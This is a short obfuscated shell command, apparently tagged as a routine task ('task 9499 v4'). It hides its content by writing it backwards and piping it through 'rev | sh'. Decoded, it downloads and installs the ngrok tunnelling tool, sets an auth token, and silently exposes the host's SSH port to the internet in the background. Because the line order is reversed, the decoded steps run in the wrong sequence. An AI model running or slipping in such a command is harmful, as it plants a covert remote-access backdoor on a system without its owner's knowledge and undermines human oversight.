echo '
& 1&>2 llun/ved/> 22 pct korgn puhon
0987654321_zyxWVutsRQPonmLKJihgFEDcba2 nekothtua-dda gifnoc korgn
nib/lacol/rsu/ C- zgt.korgn/pmt/ fzx rat
zgt.46dma-xunil-elbats-3v-korgn/c4YVQm1jyNb/c/oi.xoniuqe.nib//:sptth zgt.korgn/pmt/ oLs- lruc
hsab/nib/!#
4v 9499 ksat #' | rev | sh